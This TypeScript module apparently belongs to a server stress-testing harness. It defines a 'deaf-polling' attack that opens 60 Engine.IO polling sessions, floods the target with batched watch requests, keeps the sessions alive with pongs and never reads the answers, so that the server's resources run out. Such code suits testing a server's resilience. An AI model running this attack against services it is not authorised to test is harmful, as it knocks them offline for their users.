import type { Attack } from '../attacker/attack.js';
import { packets } from '../attacker/live-socket.js';
import { untilNextWindow } from '../attacker/message-window.js';
import { PollingSession } from '../attacker/polling-session.js';

const SESSIONS = 60;
const WATCHES = 95;
/** Engine.IO's, between the packets of one body. */
const SEPARATOR = '\u001e';
const BODIES = 10;

export const deafPolling: Attack = {
  name: 'deaf-polling',
  what: '60 polling sessions ask for all counts as often as they may, and never fetch the answers',
  async run(signal, target) {
    const sessions = await Promise.all(
      Array.from({ length: SESSIONS }, () => PollingSession.open(target)),
    );
    const watch = packets.watch(target.knowledge.eventIds.slice(0, 20), '0');
    const body = Array.from({ length: Math.floor(WATCHES / BODIES) }, () => watch).join(SEPARATOR);
    while (!signal.aborted) {
      await Promise.all(
        sessions.map(async (session) => {
          for (let sent = 0; sent < BODIES && !signal.aborted; sent++) await session?.post(body);
          await session?.post(packets.pong);
        }),
      );
      await untilNextWindow(signal);
    }
  },
};
